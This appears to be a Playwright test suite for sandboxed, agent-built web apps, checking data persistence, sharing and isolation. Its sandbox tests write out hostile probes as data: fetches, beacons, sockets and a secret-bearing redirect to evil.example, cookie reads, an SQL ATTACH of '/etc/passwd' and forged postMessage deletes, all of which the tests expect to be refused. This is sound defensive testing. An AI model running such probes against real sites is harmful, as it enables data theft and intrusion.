import type { Page } from '@playwright/test';
import { post, withApp } from '../support/factors';
import { call, callers, Canary } from '../support/realms';
import { expect, test } from '../support/test';

const file = (path: string, text: string) => ({ path, text });

const TALLY = [
  file(
    'index.html',
    `<!doctype html><html lang="en"><meta name="viewport" content="width=device-width"><title>Tally</title>
<link rel="stylesheet" href="look/style.css"><h1>Tally</h1><button>Count</button> <output>…</output>
<script src="alumia.js"></script><script type="module" src="main.mjs"></script></html>`,
  ),
  file('look/style.css', ':root { color-scheme: light dark; font-family: sans-serif } output { font-size: 2rem }'),
  file('lib/store.mjs', `export const count = async () => (await alumia.query('SELECT count(*) FROM clicks')).rows[0][0];`),
  file(
    'main.mjs',
    `import { count } from './lib/store.mjs';
await alumia.execute('CREATE TABLE IF NOT EXISTS clicks (at)');
const show = async () => (document.querySelector('output').textContent = await count());
document.querySelector('button').onclick = async () => {
  await alumia.execute('INSERT INTO clicks VALUES (?1)', [Date.now()]);
  await show();
};
await show();`,
  ),
];

test('an agent makes an app that keeps its data, changes it, and a reload loses nothing', async ({ lab, page, narrow }) => {
  const done = async (count: number) => {
    await expect(lab.calls).toHaveCount(count, { timeout: 20_000 });
    await expect(lab.calls.last()).toHaveAttribute('data-state', 'done', { timeout: 20_000 });
    await lab.settled();
  };
  await lab.say(`call app_create ${JSON.stringify({ title: 'Tally', files: TALLY })}`);
  await done(1);
  await lab.showCanvas();
  await lab.fit();
  const block = lab.block('Tally');
  const app = block.frameLocator('iframe');
  await expect(app.locator('output')).toHaveText('0');
  // A block's content answers once it is selected, and large enough to be read.
  await lab.canvas.focus();
  await page.keyboard.press('f');
  await page.getByRole('combobox', { name: 'Find a node' }).fill('Tally');
  await page.getByRole('option', { name: 'Tally', exact: true }).click();
  await expect(block).toHaveAttribute('data-mark', 'solo');
  for (let count = 0; count < 2; count++) await app.getByRole('button', { name: 'Count' }).click();
  await expect(app.locator('output')).toHaveText('2');
  expect(await app.locator('output').evaluate((output) => getComputedStyle(output).fontSize)).toBe('32px');
  const shot = (name: string) =>
    page.screenshot({ path: `test-results/shots/apps-${name}-${narrow ? 'phone' : 'desktop'}.png` });
  await shot('made');
  await page.reload();
  await lab.ready();
  await lab.showCanvas();
  await lab.fit();
  await expect(app.locator('output')).toHaveText('2');

  const [{ id }] = (await lab.api('GET', `/projects/${await lab.project()}/blocks`)).items.filter((it: any) => it.title === 'Tally');
  await lab.showChat();
  const files = [file('look/style.css', 'output { font-size: 3rem }')];
  await lab.say(`call update_block ${JSON.stringify({ blockId: id, files })}`);
  await done(2);
  await lab.showCanvas();
  await lab.fit();
  await expect.poll(() => app.locator('output').evaluate((output) => getComputedStyle(output).fontSize)).toBe('48px');
  await expect(app.locator('output')).toHaveText('2');
  await expect(block.locator('iframe')).toHaveAttribute('title', 'Tally');
  await page.emulateMedia({ colorScheme: 'dark' });
  await shot('dark');
});

test('an app writes its page with innerHTML and draws what it likes', async ({ lab }) => {
  const script = `const policy = globalThis.trustedTypes?.createPolicy('library', { createHTML: (it) => it });
const out = document.querySelector('output');
customElements.define('list-item', class extends HTMLElement { connectedCallback() { this.innerHTML = '<b>' + this.title + '</b>' } });
out.innerHTML = '<ul>' + ['a', 'b'].map((it) => '<li><list-item title="' + it + '"></list-item></li>').join('') + '</ul>';
out.insertAdjacentHTML('beforeend', '<svg viewBox="0 0 9 9"><circle r="4"/></svg><button onclick="this.textContent = 7">Go</button>');
const more = document.createElement('template');
more.innerHTML = '<tr><td>cell</td></tr>';
const table = document.createElement('table');
table.append(more.content.cloneNode(true));
out.append(table, new DOMParser().parseFromString('<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>', 'image/svg+xml').documentElement);
const button = out.querySelector('button');
button.setAttribute('onfocus', "this.title = 'focus'");
button.focus();
button.click();
const inline = document.createElement('script');
inline.textContent = "document.body.dataset.inline = 'ran'";
document.body.append(inline);
const shown = (src) => new Promise((resolve, reject) => out.append(Object.assign(new Image(), { src, onload: () => resolve('shown'), onerror: reject })));
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" style="fill:red"/></svg>';
document.body.dataset.images = [
  await shown('look/dot.svg'),
  await shown('data:image/svg+xml,' + encodeURIComponent(drawing)),
  await shown(URL.createObjectURL(new Blob([drawing], { type: 'image/svg+xml' }))),
].join();
document.body.dataset.numbers = [1, 2, 3].filter((it) => it < 3).length;
out.insertAdjacentHTML('beforeend', '<p>Film: <iframe src="https://films.example/"></iframe></p>');
document.body.dataset.done = '';`;
  const files = [
    file('index.html', '<!doctype html><body><output></output><script>let frame = 3; for (var i = 0; i<frame ; i++);</script><script type="module" src="main.mjs"></script>'),
    file('main.mjs', script),
    file('look/dot.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>rect { fill: red }</style><rect width="9" height="9"/></svg>'),
  ];
  await lab.put('Ordinary', { kind: 'app', data: { files } }, { x: 0, y: 0, width: 400, height: 300 });
  await lab.showCanvas();
  await lab.fit();
  const body = lab.block('Ordinary').frameLocator('iframe').locator('body');
  await expect(body).toHaveAttribute('data-done', '', { timeout: 20_000 });
  await expect(body).toHaveAttribute('data-inline', 'ran');
  await expect(body).toHaveAttribute('data-images', 'shown,shown,shown');
  await expect(body).toHaveAttribute('data-numbers', '2');
  await expect(body.locator('list-item b')).toHaveText(['a', 'b']);
  await expect(body.locator('svg')).toHaveCount(2);
  await expect(body.locator('td')).toHaveText('cell');
  await expect(body.locator('button')).toHaveText('7');
  await expect(body.locator('button')).toHaveAttribute('title', 'focus');
  // A frame is shown as what it is: text.
  await expect(body.locator('p')).toHaveText('Film: < iframe src="https://films.example/">');
  expect(await body.evaluate(() => length)).toBe(0);
});

/** Serves the apps' pages without a part of what protects them. */
async function unguarded(page: Page, change: (headers: Record<string, string>) => void): Promise<void> {
  await page.route('**/apps/**', async (route) => {
    const response = await route.fetch();
    const { 'content-encoding': _, 'content-length': __, ...headers } = response.headers();
    change(headers);
    await route.fulfill({ status: response.status(), headers, body: await response.body() });
  });
}

test.describe('what an app may not', () => {
  // The browser says of each thing that it was stopped.
  test.use({ mayFail: true, hostile: true });

  test('come by a frame, and call a server from there', async ({ lab, page }) => {
    // Without the policy that only some browsers have.
    await unguarded(page, (headers) => delete headers['connection-allowlist']);
    const { apps, canaries, ways } = await callers();
    let at = 0;
    for (const [title, files] of Object.entries(apps)) {
      const data = { files: Object.entries(files).map(([path, text]) => file(path, text)) };
      await lab.put(title, { kind: 'app', data }, { x: (at % 3) * 320, y: Math.floor(at++ / 3) * 260, width: 300, height: 240 });
    }
    await lab.showCanvas();
    await lab.fit();
    // What a parser says of broken XML has a body too.
    const body = (title: string) => lab.block(title).frameLocator('iframe').locator('body').first();
    await expect(body('Scripts')).toHaveAttribute('data-out', /./, { timeout: 30_000 });
    const out = JSON.parse((await body('Scripts').getAttribute('data-out'))!);
    expect(out).toEqual(Object.fromEntries(ways.map((way) => [way, 'nothing'])));
    await expect(body('Markup')).toHaveAttribute('data-out', '0');
    // A call takes a tenth of this.
    await page.waitForTimeout(3000);
    const heard = Object.entries(canaries).filter(([, canary]) => canary.heard);
    for (const canary of Object.values(canaries)) canary.close();
    expect(heard.map(([way]) => way)).toEqual([]);
  });

  test('paste a frame', async ({ lab, page }) => {
    const html = `<!doctype html><body><div contenteditable>here</div><script>
document.addEventListener('copy', (event) => {
  event.clipboardData.setData('text/html', document.body.dataset.copy);
  event.preventDefault();
});
document.body.dataset.copy = '<b>bold</b><' + 'iframe></' + 'iframe>';
</script>`;
    await lab.put('Paste', { kind: 'app', data: { files: [file('index.html', html)] } }, { x: 0, y: 0, width: 400, height: 300 });
    await lab.showCanvas();
    await lab.fit();
    const app = lab.block('Paste').frameLocator('iframe');
    const text = app.locator('[contenteditable]');
    const paste = async () => {
      await text.evaluate((it: HTMLElement) => it.focus());
      await page.keyboard.press('Control+C');
      await page.keyboard.press('Control+V');
    };
    await expect(text).toBeVisible();
    await paste();
    await app.locator('body').evaluate((it) => (it.dataset.copy = '<b>plain</b>'));
    await paste();
    await expect(text.locator('b')).toHaveText('plain');
    expect(await text.evaluate(() => length)).toBe(0);
  });

  test('call where nothing holds it but a policy of the network, and the canary hears what nothing holds', async ({ lab, page, browser }) => {
    const canaries = { free: await Canary.listen(), held: await Canary.listen() };
    const policy = { free: '(response-origin);webrtc=allow', held: '(response-origin);webrtc=block' };
    for (const name of ['free', 'held'] as const) {
      const body = `<!doctype html><body><script>${call(canaries[name].port)}</script>`;
      const headers = { 'content-type': 'text/html', 'connection-allowlist': policy[name] };
      await page.route(`**/${name}.html`, (route) => route.fulfill({ headers, body }));
      const files = [file('index.html', `<script>location = '${name}.html'</script>`)];
      await lab.put(name, { kind: 'app', data: { files } }, { x: name === 'free' ? 0 : 420, y: 0, width: 400, height: 300 });
    }
    await lab.showCanvas();
    await lab.fit();
    await expect.poll(() => canaries.free.heard, { timeout: 20_000 }).toBeGreaterThan(0);
    await page.waitForTimeout(2000);
    // Older ones don't know it.
    if (Number.parseInt(browser.version()) >= 152) expect(canaries.held.heard).toBe(0);
    for (const canary of Object.values(canaries)) canary.close();
  });

  test('run in a browser that enforces nothing', async ({ lab, page }) => {
    await unguarded(page, (headers) => {
      headers['content-security-policy'] = headers['content-security-policy'].replace(/require-trusted-types-for 'script';/, '');
    });
    await lab.put('Old', { kind: 'app', data: { files: TALLY } }, { x: 0, y: 0, width: 400, height: 300 });
    await lab.showCanvas();
    await lab.fit();
    const app = lab.block('Old').frameLocator('iframe');
    await expect(app.locator('html')).toHaveText('Apps need a newer browser.');
    await expect(app.locator('output')).toHaveCount(0);
  });

  test('reach the page, the network, cookies, or anything but its own data', async ({ lab, page }) => {
    const gone: string[] = [];
    // Also what the content policy stopped is told as a request, and then as one that failed by it.
    page.on('requestfailed', (request) => {
      const away = new URL(request.url()).hostname !== 'localhost';
      if (away && !/csp/i.test(request.failure()?.errorText ?? '')) gone.push(request.url());
    });
    page.on('response', (response) => {
      if (new URL(response.url()).hostname !== 'localhost') gone.push(response.url());
    });
    const evil = 'https://evil.example';
    const tries: Record<string, string> = {
      cookie: 'document.cookie',
      parent: 'parent.document.title',
      top: `top.location = '${evil}/top', await wait(), 'left'`,
      storage: 'localStorage.x = 1',
      fetch: `(await fetch('${evil}/fetch')).status`,
      api: `(await fetch('/api/v1/me', { credentials: 'include' })).status`,
      beacon: `navigator.sendBeacon('${evil}/beacon') && (await wait(), 'sent')`,
      image: `await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = no; i.src = '${evil}/image.png'; })`,
      script: `await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('ran'); s.onerror = no; s.src = '${evil}/x.js'; document.head.append(s); })`,
      own: `await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('ran'); s.onerror = no; s.src = '/pkg/alumia.js'; document.head.append(s); })`,
      socket: `await new Promise((ok, no) => { const s = new WebSocket('wss://evil.example/'); s.onopen = ok; s.onerror = no; })`,
      popup: `String(window.open('${evil}/popup') ?? (() => { throw 0 })())`,
      worker: `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => ok('works'); w.onerror = no; })`,
      frame: `await new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = '${evil}/frame'; f.onload = () => no(); document.body.append(f); setTimeout(no, 300); })`,
      eval: "eval('1')",
      peer: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createDataChannel('x').label",
      attach: "(await alumia.execute(\"ATTACH '/etc/passwd' AS p\")).changes + ''",
      forged: `await new Promise((ok, no) => { parent.postMessage({ alumia: 99, kind: 'delete', sql: 'x' }, '*'); addEventListener('message', (e) => e.data.alumia === 99 && ok(e.data)); setTimeout(no, 300); })`,
    };
    const script = `const wait = () => new Promise((ok) => setTimeout(ok, 300));
const out = {};
${Object.entries(tries).map(([name, code]) => `try { out.${name} = await (async () => (${code}))(); } catch { out.${name} = 'refused'; }`).join('\n')}
document.body.dataset.out = JSON.stringify(out);`;
    const files = [
      file('index.html', '<!doctype html><link rel="dns-prefetch" href="//evil.example"><body><script src="alumia.js"></script><script type="module" src="try.js"></script>'),
      file('try.js', script),
    ];
    await lab.put('Evil', { kind: 'app', data: { files } }, { x: 0, y: 0, width: 400, height: 300 });
    await lab.showCanvas();
    await lab.fit();
    const body = lab.block('Evil').frameLocator('iframe').locator('body');
    await expect(body).toHaveAttribute('data-out', /./, { timeout: 20_000 });
    const out = JSON.parse((await body.getAttribute('data-out'))!);
    const refused = Object.fromEntries(Object.keys(tries).map((name) => [name, 'refused']));
    expect(out).toEqual({ ...refused, beacon: out.beacon });
    expect(gone).toEqual([]);

    // Leading itself away is what the page's own policy stops.
    const away = [file('index.html', `<!doctype html><script>location = '${evil}/away?secret'</script>`)];
    await lab.put('Away', { kind: 'app', data: { files: away } }, { x: 500, y: 0, width: 400, height: 300 });
    await expect(lab.block('Away')).toBeVisible();
    await page.waitForTimeout(1500);
    expect(gone).toEqual([]);
    expect(new URL(page.url()).hostname).toBe('localhost');
  });
});

test('whoever has a share link sees the app without its data, and no frame opens outside of a page', async ({
  lab,
  page,
  person,
  server,
  browser,
}) => {
  await withApp(page.request, server.url, person);
  const project = await lab.project();
  const { id } = await lab.put('Tally', { kind: 'app', data: { files: TALLY } }, { x: 0, y: 0, width: 400, height: 300 });
  const made = await post(page.request, server.url, `/projects/${project}/share`, {});
  expect(made.status(), await made.text()).toBe(201);
  const context = await browser.newContext({ viewport: page.viewportSize() });
  const viewer = await context.newPage();
  await viewer.goto((await made.json()).data.url);
  const app = viewer.frameLocator('iframe');
  await expect(app.getByRole('heading', { name: 'Tally' })).toBeVisible();
  await expect(app.locator('output')).toHaveText('…');
  await context.close();

  const frame = await lab.api('POST', `/blocks/${id}/frame`);
  // As a page of its own it could lead itself anywhere.
  const alone = await page.context().newPage();
  expect((await alone.goto(server.url + frame.url))!.status()).toBe(403);
  await alone.close();
  expect((await page.request.get(`${server.url}/apps/wrong/index.html`)).status()).toBe(404);
});
